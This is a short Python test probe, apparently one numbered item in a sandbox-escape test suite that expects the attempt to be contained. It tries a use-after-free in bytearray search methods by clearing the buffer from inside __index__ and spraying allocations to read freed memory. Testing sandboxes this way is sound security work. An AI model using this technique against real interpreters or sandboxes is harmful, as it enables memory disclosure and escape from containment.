# escape: 185
# policy-wall: optional; it changes its own process alone
# technique: bytearray.count, rfind, index, startswith and endswith whose start clears the bytearray
# family: memory
# goal: memory
# expect: contained
keep = []
def probe(method, *args):
    ba = bytearray(b'A' * 4000)
    class Start:
        def __index__(self):
            ba.clear()
            keep.extend(bytearray(b'S' * 3990) for _ in range(4))
            return 0
    return getattr(ba, method)(*args, Start())
for method in ('count', 'rfind', 'index', 'rindex', 'startswith', 'endswith', 'find'):
    for _ in range(10):
        try:
            got = probe(method, b'SSSSSSSS')
        except ValueError:
            continue
        if got not in (0, -1, False):
            print('ESCAPED:', method, 'read freed memory', got)
            break
